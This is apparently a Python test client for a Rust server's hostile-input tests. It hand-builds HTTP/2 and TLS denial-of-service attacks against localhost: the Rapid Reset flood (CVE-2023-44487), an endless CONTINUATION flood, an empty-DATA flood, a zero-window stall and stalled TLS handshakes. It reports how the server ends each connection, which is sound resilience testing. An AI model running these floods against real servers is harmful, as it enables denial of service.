#!/usr/bin/env python3
"""Hostile HTTP/2 and TLS clients for tests/tests/h2_hostile.rs.

Each case crafts its frames by hand (the standard library only: ssl with ALPN h2, the
HTTP/2 frame layout of RFC 9113 and literal HPACK fields of RFC 7541), attacks the
server on 127.0.0.1:PORT and reports how every connection ended, as one JSON object on
standard output:

    {"case": ..., "connections": [{"ended": "goaway" | "eof" | "reset" | "deadline",
      "goaway_code": int or null, "closed_after_goaway": bool, "seconds": float (from
      the end of the handshake and SETTINGS exchange, for HTTP/2; from connect otherwise),
      "frames": int, "pings_answered": int}, ...]}

"deadline" means the client gave up first: the server never ended the connection.

Cases:
  rapid-reset        HEADERS then RST_STREAM(CANCEL) on new streams, in a loop (CVE-2023-44487)
  continuation       HEADERS without END_HEADERS, then CONTINUATION frames forever
  empty-data         a request whose body is a flood of empty DATA frames
  idle               an HTTP/2 connection that answers every PING and opens no stream
  zero-window        SETTINGS_INITIAL_WINDOW_SIZE=0 and never a WINDOW_UPDATE, one GET, then
                     it answers every PING: the response can never be sent
  silent-h2          a TLS handshake with ALPN h2, then nothing (not even the preface)
  no-hello           a TCP connection that never sends a ClientHello
  partial-hello      half a ClientHello, then nothing
  stalled-handshake  a whole ClientHello, then never the client's Finished

The flood cases open a new connection each time the server ends one, until --duration
seconds have passed (at least one connection); the others use one connection.
"""

import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name_index, value):
    """A header field "literal without indexing" with an indexed name (RFC 7541, 6.2.2)."""
    value = value.encode()
    assert name_index < 15 and len(value) < 127
    return bytes([name_index, len(value)]) + value


def literal_new_name(name, value):
    """A header field "literal without indexing" with a new name."""
    name, value = name.encode(), value.encode()
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request_block(method, path):
    # Static table: 2 ":method GET", 3 ":method POST", 4 ":path", 7 ":scheme https",
    # 1 ":authority".
    return bytes([0x82 if method == "GET" else 0x83, 0x87]) + literal(4, path) + literal(1, "localhost")


def tls_h2(args):
    """A TLS connection to the server on which it picked ALPN h2."""
    raw = socket.create_connection(("127.0.0.1", args.port), timeout=args.deadline)
    context = ssl.create_default_context(cafile=args.cafile)
    context.set_alpn_protocols(["h2"])
    sock = context.wrap_socket(raw, server_hostname="localhost")
    if sock.selected_alpn_protocol() != "h2":
        sys.exit(f"the server did not take h2: {sock.selected_alpn_protocol()!r}")
    return sock


class Connection:
    """One TLS connection speaking HTTP/2, and how it ended."""

    def __init__(self, args, settings=b""):
        self.args = args
        self.started = time.monotonic()
        self.deadline = self.started + args.deadline
        self.result = {"ended": None, "goaway_code": None, "closed_after_goaway": False,
                       "seconds": None, "frames": 0, "pings_answered": 0}
        self.buffer = b""
        # After the first GOAWAY: only whether the server closes matters.
        self.closing = False
        # No SETTINGS or PING answers in the middle of a header block: a frame between
        # HEADERS and its CONTINUATIONs is a protocol error of the client's own.
        self.answering = True
        self.settings_seen = False
        self.sock = tls_h2(args)
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        # The attack starts once the server's SETTINGS is in and acknowledged.
        while not self.settings_seen and time.monotonic() < self.deadline:
            if not self.receive(0.05):
                break
        # Times count from here: the attack's, not the handshake's.
        self.started = time.monotonic()

    def end(self, how):
        if self.result["ended"] is None:
            self.result["ended"] = how
            self.result["seconds"] = round(time.monotonic() - self.started, 3)

    def send(self, data, frames):
        """Sends `data`; False once the connection has ended."""
        remaining = self.deadline - time.monotonic()
        if remaining <= 0:
            self.end("deadline")
            return False
        self.sock.settimeout(remaining)
        try:
            self.sock.sendall(data)
        except socket.timeout:
            self.end("deadline")
            return False
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
            self.end("reset")
            return False
        self.result["frames"] += frames
        return self.receive(0.0)

    def receive(self, wait):
        """Reads what the server sent within `wait` seconds, answering SETTINGS and PING;
        False once the connection has ended (GOAWAY, EOF or reset)."""
        until = time.monotonic() + wait
        while True:
            if not self.sock.pending():
                left = until - time.monotonic()
                readable, _, _ = select.select([self.sock], [], [], max(left, 0.0))
                if not readable:
                    return True
            try:
                self.sock.settimeout(1.0)
                chunk = self.sock.recv(65536)
            except (ssl.SSLWantReadError, socket.timeout):
                continue
            except (ConnectionResetError, ssl.SSLError, OSError):
                self.end("reset")
                return False
            if not chunk:
                self.end("eof")
                return False
            self.buffer += chunk
            if not self.parse():
                return False

    def parse(self):
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                break
            kind, flags = self.buffer[3], self.buffer[4]
            payload = self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            try:
                if kind == SETTINGS and not flags & ACK and self.answering:
                    self.settings_seen = True
                    self.sock.sendall(frame(SETTINGS, ACK, 0))
                elif kind == PING and not flags & ACK and self.answering:
                    self.sock.sendall(frame(PING, ACK, 0, payload))
                    self.result["pings_answered"] += 1
            except OSError:
                self.end("reset")
                return False
            if kind == GOAWAY and not self.closing:
                self.result["goaway_code"] = int.from_bytes(payload[4:8], "big")
                self.end("goaway")
                return False
        return True

    def wait_for_close(self):
        """After a GOAWAY: does the server close the connection within --close-wait s?"""
        if self.result["ended"] == "goaway":
            self.deadline = time.monotonic() + self.args.close_wait
            self.closing = True
            self.result["ended"] = None
            seconds = self.result["seconds"]
            while time.monotonic() < self.deadline and self.receive(0.1):
                pass
            self.result["closed_after_goaway"] = self.result["ended"] in ("eof", "reset")
            self.result["ended"], self.result["seconds"] = "goaway", seconds
        try:
            self.sock.close()
        except OSError:
            pass


def rapid_reset(conn):
    stream = 1
    while True:
        batch = b""
        for _ in range(100):
            batch += frame(HEADERS, END_STREAM | END_HEADERS, stream, request_block("GET", "/"))
            batch += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            stream += 2
        if not conn.send(batch, 200):
            return


def continuation(conn):
    conn.answering = False
    if not conn.send(frame(HEADERS, END_STREAM, 1, request_block("GET", "/")), 1):
        return
    filler = literal_new_name("x-filler", "f" * 100)
    while True:
        if not conn.send(frame(CONTINUATION, 0, 1, filler) * 20, 20):
            return


def empty_data(conn):
    if not conn.send(frame(HEADERS, END_HEADERS, 1, request_block("POST", "/upload")), 1):
        return
    while True:
        if not conn.send(frame(DATA, 0, 1) * 200, 200):
            return


def idle(conn):
    while conn.receive(conn.deadline - time.monotonic()):
        if time.monotonic() >= conn.deadline:
            conn.end("deadline")
            return


def zero_window(conn):
    # HEADERS are not flow-controlled: the response head comes, its body never can.
    if not conn.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block("GET", "/")), 1):
        return
    idle(conn)


def silent_h2(args):
    """The TLS handshake with ALPN h2, then nothing; seconds count from the handshake,
    which is announced by a line on standard error."""
    sock = tls_h2(args)
    started = time.monotonic()
    # For the test, which stops the server now.
    print("handshake done", file=sys.stderr, flush=True)
    result = {"ended": None, "goaway_code": None, "closed_after_goaway": False,
              "seconds": None, "frames": 0, "pings_answered": 0}
    while True:
        left = args.deadline - (time.monotonic() - started)
        if left <= 0:
            result["ended"] = "deadline"
            break
        sock.settimeout(left)
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            result["ended"] = "deadline"
            break
        except (ConnectionResetError, ssl.SSLError, OSError):
            result["ended"] = "reset"
            break
        if not chunk:
            result["ended"] = "eof"
            break
    result["seconds"] = round(time.monotonic() - started, 3)
    sock.close()
    return result


def client_hello():
    """The bytes of a real ClientHello (with ALPN h2), made by ssl without a socket."""
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2", "http/1.1"])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def tcp_until_closed(args, sent):
    """Sends `sent` on a plain TCP connection, then reads (and drops) whatever comes until
    the server closes it or the deadline."""
    started = time.monotonic()
    result = {"ended": None, "goaway_code": None, "closed_after_goaway": False,
              "seconds": None, "frames": 0, "pings_answered": 0}
    sock = socket.create_connection(("127.0.0.1", args.port), timeout=args.deadline)
    if sent:
        sock.sendall(sent)
    while True:
        left = args.deadline - (time.monotonic() - started)
        if left <= 0:
            result["ended"] = "deadline"
            break
        sock.settimeout(left)
        try:
            chunk = sock.recv(65536)
        except socket.timeout:
            result["ended"] = "deadline"
            break
        except (ConnectionResetError, OSError):
            result["ended"] = "reset"
            break
        if not chunk:
            result["ended"] = "eof"
            break
    result["seconds"] = round(time.monotonic() - started, 3)
    sock.close()
    return result


ATTACKS = {"rapid-reset": rapid_reset, "continuation": continuation, "empty-data": empty_data}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("case", choices=[*ATTACKS, "idle", "zero-window", "silent-h2", "no-hello",
                                         "partial-hello", "stalled-handshake"])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--cafile", required=True)
    parser.add_argument("--duration", type=float, default=0.0,
                        help="flood cases: open new connections until this many seconds have passed")
    parser.add_argument("--deadline", type=float, default=10.0,
                        help="seconds after which the client stops waiting for the server to end a connection")
    parser.add_argument("--close-wait", type=float, default=2.0,
                        help="seconds to wait, after a GOAWAY, for the server to close the connection")
    args = parser.parse_args()
    connections = []
    if args.case in ATTACKS:
        started = time.monotonic()
        while not connections or time.monotonic() - started < args.duration:
            conn = Connection(args)
            ATTACKS[args.case](conn)
            conn.wait_for_close()
            connections.append(conn.result)
            if conn.result["ended"] == "deadline":
                break
    elif args.case == "idle":
        conn = Connection(args)
        idle(conn)
        conn.wait_for_close()
        connections.append(conn.result)
    elif args.case == "zero-window":
        conn = Connection(args, struct.pack(">HI", SETTINGS_INITIAL_WINDOW_SIZE, 0))
        zero_window(conn)
        conn.wait_for_close()
        connections.append(conn.result)
    elif args.case == "silent-h2":
        connections.append(silent_h2(args))
    elif args.case == "no-hello":
        connections.append(tcp_until_closed(args, b""))
    elif args.case == "partial-hello":
        hello = client_hello()
        connections.append(tcp_until_closed(args, hello[: len(hello) // 2]))
    else:
        connections.append(tcp_until_closed(args, client_hello()))
    json.dump({"case": args.case, "connections": connections}, sys.stdout)
    print()


if __name__ == "__main__":
    main()
